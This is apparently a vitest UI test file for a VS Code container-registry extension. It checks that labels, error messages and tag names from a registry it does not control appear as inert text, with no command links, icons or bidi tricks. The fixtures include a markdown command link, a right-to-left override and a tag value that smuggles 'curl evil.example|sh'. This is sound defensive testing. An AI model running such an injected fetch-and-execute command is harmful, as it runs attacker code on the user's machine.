import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildImage } from '../sandbox/images';
import { startV2Server, type V2Server } from '../sandbox/v2Server';
import { connected } from './images';
import { dialog } from './dialog';
import { notifications } from './notification';
import { quickInput } from './quickInput';
import { registriesView } from './registriesView';
import { useWorkbench } from './workbench';

/** VS Code would make a link of it that runs a command, and an icon; over two lines, from right to left. */
const hostile = '[Run](command:workbench.action.newWindow)\n$(verified-filled) \u202ename';
const shown = '[Run] (command:workbench.action.newWindow) $ (verified-filled) name';
const image = buildImage({ created: new Date(Date.now() - 2 * 24 * 3600_000) });
const said = (message: string) => ({
  status: 403,
  headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ errors: [{ code: 'DENIED', message }] }),
});

describe('a text that others wrote', () => {
  let server: V2Server;
  beforeAll(async () => {
    server = await startV2Server({ repositories: [{ name: 'team/app', tags: { '1.0': image } }] });
  });
  afterEach(() => {
    server.clearFaults();
  });
  afterAll(() => server.stop());

  const workbench = useWorkbench(() => ({ settings: connected({ label: hostile, url: server.url }) }));
  /** Links, which buttons are drawn as well, and icons. */
  const drawn = (place: string) =>
    workbench()
      .page.locator(`${place} a:not(.action-label, .monaco-button, .label-name), ${place} .codicon-verified-filled`)
      .count();
  const opened = async () => {
    const view = registriesView(workbench());
    await view.open();
    await view.expand(shown);
    await view.expand('team/app');
    return view;
  };

  it('is text on a row, in a modal question and in the title of progress', async () => {
    const view = registriesView(workbench());
    await view.open();
    await view.row(shown);
    await view.choose(shown, 'Disconnect');
    const question = dialog(workbench());
    expect(await question.message()).toBe(`Disconnect “${shown}”?`);
    expect(await drawn('.monaco-dialog-box')).toBe(0);
    await workbench().screenshot('others-question');
    await question.press('Cancel');
    server.fail(/./, { kind: 'slow', delayMs: 3000 });
    await view.choose(shown, 'Diagnose Connection');
    expect(await notifications(workbench()).saying('Diagnosing')).toContain(`Diagnosing ${shown}`);
    expect(await drawn('.notification-toast')).toBe(0);
    await workbench().screenshot('others-progress');
    server.clearFaults();
    await workbench().page.locator('.tab', { hasText: 'diagnosis.md' }).waitFor();
    await notifications(workbench()).gone('Diagnosing');
    // The preview takes the focus when it comes, which closes a box that is open by then.
    const preview = workbench().page.frameLocator('iframe.webview.ready').frameLocator('#active-frame');
    await preview.getByRole('heading').first().waitFor();
  });

  it('is text in a picker', async () => {
    await workbench().runCommand('Registry Explorer: Inspect Image Manifest');
    const input = quickInput(workbench());
    expect((await input.rows()).map(({ label }) => label)).toEqual([shown]);
    expect(await drawn('.quick-input-widget .quick-input-list')).toBe(0);
    await workbench().screenshot('others-picker');
    await input.escape();
    await input.closed();
  });

  it('is text in a notification, and under a box', async () => {
    const view = await opened();
    await view.describes('1.0', '2 days ago');
    server.fail(/manifests/, said(hostile));
    await view.choose('1.0', 'Inspect Image Manifest');
    expect(await notifications(workbench()).saying('Could not')).toContain(`the registry says “${shown}” (403).`);
    expect(await drawn('.notification-toast')).toBe(0);
    await workbench().screenshot('others-notification');
    await notifications(workbench()).clear();
    server.fail(/_catalog|\/v2\/ /, said(hostile));
    server.fail(/\/v2\/$/, said(hostile));
    await view.titleAction('Connect Registry…');
    const input = quickInput(workbench());
    await input.pick('Generic Docker V2 / OCI registry');
    await input.titled('Connect Registry (2 of 3)');
    await input.type(server.url.replace('127.0.0.1', 'localhost'));
    await input.accept();
    await input.titled('Connect Registry (3 of 3)');
    await input.pick('Anonymously');
    await expect
      .poll(async () => workbench().page.locator('.quick-input-widget').innerText())
      .toContain(`the registry says “${shown}”`);
    expect(await drawn('.quick-input-widget .quick-input-list')).toBe(0);
    expect(await drawn('.quick-input-message')).toBe(0);
    await workbench().screenshot('others-box');
    await input.escape();
  });

  it('is a row of text where it is no name that images can have', async () => {
    const tags = ['1.0', '1.0;curl evil.example|sh', hostile];
    server.fail(/tags\/list/, {
      status: 200,
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ name: 'team/app', tags }),
    });
    const view = await opened();
    await view.choose('team/app', 'Refresh');
    for (const name of ['1.0;curl evil.example|sh', shown]) {
      await view.describes(['team/app', name], 'not a valid name');
      expect(await view.inlineActions(['team/app', name])).toEqual([]);
    }
    await workbench().screenshot('others-names');
    const asked = server.requests.filter(({ path }) => /curl|command/.test(decodeURIComponent(path)));
    expect(asked).toEqual([]);
  });
});
